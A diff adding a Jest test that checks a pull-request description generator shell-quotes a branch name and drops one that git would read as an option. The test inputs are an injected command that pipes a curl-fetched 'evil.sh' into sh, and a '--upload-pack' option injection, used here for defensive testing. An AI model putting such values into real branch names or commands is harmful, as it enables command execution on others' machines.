@@ -122,6 +122,14 @@ describe('pullRequestBody', () => {
     expect(never).toContain('> [!WARNING]\n> **Unverified.** The tests were never run');
   });
 
+  it('quotes a branch name that a shell would run a part of, and leaves out one that git would read as an option', () => {
+    const bodyFor = (branch: string) => pullRequestBody(recordWith({ branch }), LINKS);
+    expect(bodyFor("fix;curl$IFS-s$IFS'evil.sh|sh")).toContain(
+      "git fetch origin 'fix;curl$IFS-s$IFS'\\''evil.sh|sh' && git checkout FETCH_HEAD && ",
+    );
+    expect(bodyFor('--upload-pack=x')).not.toContain('git fetch');
+  });
+
   it('shows that the tests are red again without the patch', () => {
     const red = { kind: 'tests', payload: testsOf({ phase: 'counterfactual' }) };
     const body = pullRequestBody(recordWith({ events: [...EVENTS, red] }), LINKS);
